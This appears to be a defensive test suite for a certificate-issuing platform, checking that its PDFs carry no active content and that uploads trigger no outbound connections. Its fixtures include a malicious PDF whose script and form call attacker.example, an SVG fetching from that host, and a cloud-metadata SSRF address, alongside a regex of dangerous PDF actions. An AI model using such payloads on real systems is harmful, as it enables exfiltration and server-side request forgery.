import assert from 'node:assert/strict'
import { Socket } from 'node:net'
import { test, type TestContext } from 'node:test'
import { inflateSync } from 'node:zlib'
import { getCase, handOutCertificate } from '#platform/catalogue'
import { registerApi } from '#channels/api'
import fastify from 'fastify'
import { photoOf, verifierServer, visitorOf } from '../../channels/verifier/test-verifier.ts'
import { isProgram, isTest, projectFiles, read } from '../checks/tree.ts'
import { stampOffice } from './stamp-office.ts'

const office = await stampOffice()
const { platform } = office
const { db, setting, citizen } = platform

/** What makes a reader of PDF run, open, send or fetch something. */
const active =
  /\/(JavaScript|JS|OpenAction|AA|Launch|RichMedia|XFA|SubmitForm|ImportData|GoToR|URI|Rendition)\b/

/** A PDF with all that is packed in it. */
function unpacked(pdf: Buffer): string {
  const parts = [pdf.toString('latin1')]
  for (let at = pdf.indexOf('stream\n'); at >= 0; at = pdf.indexOf('stream\n', at + 7)) {
    try {
      parts.push(inflateSync(pdf.subarray(at + 7)).toString('latin1'))
    } catch {
      // Not packed, or an `endstream`.
    }
  }
  return parts.join('\n')
}

test('T-DOC-4 a stamp’s PDF holds nothing that runs or fetches, and all its fonts', async () => {
  const on = await office.issue()
  const view = await getCase(db, setting, citizen, on)
  const whole = unpacked((await handOutCertificate(platform, citizen, view)).bytes)
  assert.doesNotMatch(whole.replace(/\/S\s*\/URI/g, ''), active)
  const fonts = whole.match(/\/Type\s*\/FontDescriptor/g) ?? []
  const inside = whole.match(/\/FontFile[23]?\s/g) ?? []
  assert.ok(fonts.length > 0)
  assert.equal(inside.length, fonts.length)
  assert.match(unpacked(Buffer.from('1 0 obj << /OpenAction 2 0 R >>')), active)
})

/** A PDF as a forger would send it: script, an address, a form that sends itself. */
const loaded = Buffer.from(
  `%PDF-1.7
1 0 obj << /Type /Catalog /OpenAction 2 0 R /AcroForm << /XFA 3 0 R >> >> endobj
2 0 obj << /S /JavaScript /JS (app.launchURL\\("https://attacker.example/run"\\)) >> endobj
3 0 obj << /S /SubmitForm /F (https://attacker.example/send) >> endobj
xref
0 1
trailer << /Root 1 0 R /Size 4 >>
startxref
0
%%EOF
`,
)
const picture = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg"><image href="https://attacker.example/x.png"/></svg>`,
)

/** Every connection that is opened to another machine while the test runs. */
function watchConnections(t: TestContext): unknown[] {
  const opened: unknown[] = []
  const connect = Reflect.get(Socket.prototype, 'connect') as () => Socket
  t.mock.method(Socket.prototype, 'connect', function (this: Socket, ...args: unknown[]) {
    const [to] = args.flat() as [{ path?: string; port?: number } | undefined]
    if (to?.port !== undefined || typeof to === 'number') opened.push(to)
    return Reflect.apply(connect, this, args)
  })
  return opened
}

/** How many rows there are in every table together. */
async function rowsInAll(): Promise<number> {
  const tables = await db.owner.query<{ name: string }>(
    `select quote_ident(schemaname) || '.' || quote_ident(relname) as name
     from pg_stat_user_tables`,
  )
  const counts = tables.map(async ({ name }) => {
    const [row] = await db.owner.query<{ rows: number }>(`select count(*) as rows from ${name}`)
    return row?.rows ?? 0
  })
  return (await Promise.all(counts)).reduce((sum, rows) => sum + rows, 0)
}

test('T-OPS-3 whatever is uploaded or pasted, the program asks no other machine', async (t) => {
  const app = await verifierServer(platform)
  const visitor = visitorOf(app)
  const opened = watchConnections(t)
  const address = 'http://169.254.169.254/latest/meta-data'
  const files = [loaded, picture, await photoOf(address), await photoOf('www.attacker.example')]
  const pages = [
    ...(await Promise.all(files.map((file) => visitor.upload(file)))),
    await visitor.paste(address),
    await visitor.get(`/verify/number?number=${encodeURIComponent(address)}`),
  ]
  for (const { status, html } of pages) {
    assert.ok(status < 500)
    assert.ok(!/(?:href|src|action)="(?:[a-z]+:|\/\/|[^"/?#]*attacker)/.test(html))
  }
  assert.deepEqual(opened, [])
  const socket = new Socket().on('error', () => undefined)
  socket.connect({ port: 9, host: '127.0.0.1' }).destroy()
  assert.equal(opened.length, 1, 'a connection would have been seen')
})

test('T-DOC-4 what is uploaded is neither kept nor sent back to anybody', async () => {
  const app = await verifierServer(platform)
  const before = await rowsInAll()
  assert.ok(before > 10)
  const answered = await visitorOf(app).upload(loaded, 'a.pdf', 'application/pdf')
  assert.equal(await rowsInAll(), before)
  assert.ok(!/launchURL|attacker/.test(answered.html))
})

const programs = projectFiles()
  .filter((path) => /^(app|bank|holder|platform|channels|services)\//.test(path))
  .filter((path) => isProgram(path) && !isTest(path))
  .map(read)
const filesWith = (pattern: RegExp) =>
  programs.flatMap(({ path, source }) => (pattern.test(source) ? [path] : []))

test('T-OPS-3 what opens a connection asks an address that the operator wrote down', () => {
  const modules = /from '(?:node:)?(?:https?|http2|net|tls|dgram|dns)(?:\/promises)?'/
  const opens = new RegExp(`\\bfetch\\(|${modules.source}|from 'nodemailer'|new WebSocket`)
  const inBrowser = /^channels\/[^/]+\/browser\//
  assert.deepEqual(
    filesWith(opens).filter((path) => !inBrowser.test(path)),
    [
      // Listen.
      'app/witness.ts',
      'app/population/outside-program.ts',
      'app/serve-alone.ts',
      // The witnesses that are named in the environment; the log named on the command line.
      'app/recount-vote.ts',
      'app/verify-log.ts',
      'app/witnesses.ts',
      // Asks at a bank's start whether its biller, as the operator named it, answers.
      'app/bank.ts',
      // The simulated bank: the biller that is named on the command line, or this very program.
      'bank/biller-wire.ts',
      // The simulated bank that asks a wallet: this very program.
      'bank/identity/wallet-question.ts',
      // The demonstration wallet: what its holder pasted, once he has confirmed the address.
      'holder/outside.ts',
      // The demonstration's library elsewhere: this very program, where it listens.
      'channels/demo/library.ts',
      // Where two officers wrote that a relying party is told of a logout, redirects not followed.
      'channels/openid/host.ts',
      // Answer requests, open nothing.
      'channels/openid/raw-request.ts',
      'channels/openid/register-provider.ts',
      'platform/openid/provider.ts',
      // DAFTAR_BILLERS, redirects not followed.
      'platform/billing/inquiry.ts',
      // DAFTAR_SMS_URL, redirects not followed.
      'platform/notifications/providers/http-gateway/http-gateway.ts',
      // DAFTAR_SMTP_SERVER; nothing in a mail makes it read a file or an address.
      'platform/notifications/providers/smtp/smtp.ts',
      // Compares addresses, opens none.
      'platform/payments/bank-networks.ts',
      // What two officers registered; nothing inside, redirects not followed.
      'platform/outbox/outward.ts',
      // The addresses of a registration, redirects not followed.
      'platform/outbox/postman.ts',
      // DAFTAR_POPULATION, redirects not followed.
      'platform/population/outside-register.ts',
    ].toSorted(),
  )
})

test('T-DOC-5 each signing key signs in known places, what the program itself has made', () => {
  assert.deepEqual(filesWith(/(?<!function )\bsignCredential\(/), [
    // That a ballot lies in the box: its number, its vote and a hash.
    'platform/catalogue/ballots/cast.ts',
    // What the books say of a payment; a verifier compares it with them again.
    'platform/catalogue/receipt.ts',
    'platform/catalogue/transition.ts',
  ])
  assert.deepEqual(filesWith(/(?<!function )\bsignPdf\(/), [
    'platform/catalogue/papers.ts',
    // What is held of a person, for that person to take away.
    'platform/catalogue/privacy/export.ts',
  ])
  assert.deepEqual(filesWith(/[{,]\s*sign\s*[,}][^']*from 'node:crypto'/), [
    'platform/documents/certificate.ts',
    'platform/documents/cms.ts',
    'platform/documents/credential.ts',
    'platform/log/signing-key.ts',
    // To an organisation, that a session of its own ended.
    'platform/openid/logout-token.ts',
  ])
})

test('T-DOC-5 no address of the API takes bytes to sign', async () => {
  const app = fastify()
  registerApi(app, platform)
  const { paths } = (await app.inject('/api/openapi.json')).json<{
    paths: Record<string, Record<string, { requestBody?: { content: object } }>>
  }>()
  await app.close()
  const operations = Object.entries(paths).flatMap(([path, methods]) =>
    Object.values(methods).map(({ requestBody }) => ({ path, requestBody })),
  )
  assert.ok(operations.length > 10)
  for (const { path, requestBody } of operations) {
    assert.doesNotMatch(path, /sign(?!-in|-out)/)
    const kinds = Object.keys(requestBody?.content ?? {})
    // A photo's parts: only its dots are kept, and nothing of it is signed.
    const taken = path.endsWith('/uploads/{upload}')
      ? 'application/offset+octet-stream'
      : 'application/json'
    assert.ok(
      kinds.every((kind) => kind === taken),
      path,
    )
  }
})
